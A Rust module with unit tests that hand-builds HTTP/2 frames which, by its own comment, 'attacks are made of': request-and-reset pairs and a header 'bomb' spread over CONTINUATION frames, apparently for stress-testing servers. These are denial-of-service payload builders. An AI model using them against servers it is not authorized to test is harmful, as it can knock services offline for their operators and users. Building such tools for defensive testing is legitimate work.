//! The few bytes of HTTP/2 (RFC 9113) that attacks are made of. A client of a library would not send
//! them.

/// What every connection begins with (section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The longest payload of a frame that a peer must take (section 4.2).
const LARGEST: usize = 16 << 10;

/// The setting for the window of each stream (section 6.5.2), and its default.
const INITIAL_WINDOW: u16 = 4;
pub(crate) const WINDOW: u32 = 65_535;

/// The beginning of a connection whose streams have this window.
pub(crate) fn begin(window: u32) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    let mut setting = INITIAL_WINDOW.to_be_bytes().to_vec();
    setting.extend(window.to_be_bytes());
    frame(&mut out, SETTINGS, 0, 0, &setting);
    out
}

/// A GET of `path` on a stream of its own.
pub(crate) fn get(out: &mut Vec<u8>, stream: u32, host: &str, path: &str) {
    frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &head(host, path));
}

/// The end of a stream, before it has ended of itself.
pub(crate) fn reset(out: &mut Vec<u8>, stream: u32) {
    const CANCEL: u32 = 8;
    frame(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
}

/// A GET with so many headers more, each of a hundred bytes.
pub(crate) fn bomb(out: &mut Vec<u8>, stream: u32, host: &str, path: &str, headers: usize) {
    let mut block = head(host, path);
    for number in 0..headers {
        literal(&mut block, &format!("x-{number:06}"), &"x".repeat(92));
    }
    let mut parts = block.chunks(LARGEST).peekable();
    let (mut kind, mut flags) = (HEADERS, END_STREAM);
    while let Some(part) = parts.next() {
        let last = if parts.peek().is_none() { END_HEADERS } else { 0 };
        frame(out, kind, flags | last, stream, part);
        (kind, flags) = (CONTINUATION, 0);
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A head without Huffman's code and without the table that grows (RFC 7541 section 6).
fn head(host: &str, path: &str) -> Vec<u8> {
    const GET: u8 = 0x82;
    const HTTP: u8 = 0x86;
    const PATH: u8 = 4;
    const AUTHORITY: u8 = 1;
    let mut out = vec![GET, HTTP];
    for (name, value) in [(PATH, path), (AUTHORITY, host)] {
        out.push(name);
        string(&mut out, value);
    }
    out
}

fn literal(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0);
    string(out, name);
    string(out, value);
}

/// A string of up to 16,000 bytes, its length before it (RFC 7541 sections 5.1 and 5.2).
fn string(out: &mut Vec<u8>, text: &str) {
    const PREFIX: usize = 127;
    let length = text.len();
    if length < PREFIX {
        out.push(length as u8);
    } else {
        let rest = length - PREFIX;
        out.push(PREFIX as u8);
        if rest < 128 {
            out.push(rest as u8);
        } else {
            out.extend([(rest % 128 + 128) as u8, (rest / 128) as u8]);
        }
    }
    out.extend_from_slice(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_and_its_reset_are_two_frames() {
        let mut out = Vec::new();
        get(&mut out, 5, "h", "/p");
        let head = [0x82, 0x86, 4, 2, b'/', b'p', 1, 1, b'h'];
        assert_eq!(out, [&[0, 0, 9, 1, 5, 0, 0, 0, 5], &head[..]].concat());
        out.clear();
        reset(&mut out, 5);
        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }

    #[test]
    fn a_connection_begins_with_its_preface_and_one_setting() {
        let begun = begin(7);
        assert_eq!(&begun[..PREFACE.len()], PREFACE);
        assert_eq!(&begun[PREFACE.len()..], [0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 7]);
    }

    #[test]
    fn a_bomb_is_cut_into_frames_that_a_peer_must_take() {
        let mut out = Vec::new();
        bomb(&mut out, 1, "h", "/", 1000);
        let (mut at, mut frames, mut kinds) = (0, 0, Vec::new());
        while at < out.len() {
            let length = usize::from(out[at + 1]) << 8 | usize::from(out[at + 2]);
            assert!(length <= LARGEST && out[at] == 0);
            kinds.push((out[at + 3], out[at + 4]));
            at += 9 + length;
            frames += 1;
        }
        assert_eq!(at, out.len());
        assert!(frames > 5);
        assert_eq!((kinds[0], kinds[frames - 1]), ((HEADERS, 1), (CONTINUATION, END_HEADERS)));
    }

    #[test]
    fn a_long_string_has_a_long_length() {
        let mut out = Vec::new();
        string(&mut out, &"x".repeat(1337));
        assert_eq!(&out[..3], [127, 0x80 | 58, 9], "1337 - 127 = 1210 = 9 * 128 + 58");
        out.clear();
        string(&mut out, &"x".repeat(130));
        assert_eq!(&out[..2], [127, 3]);
    }
}
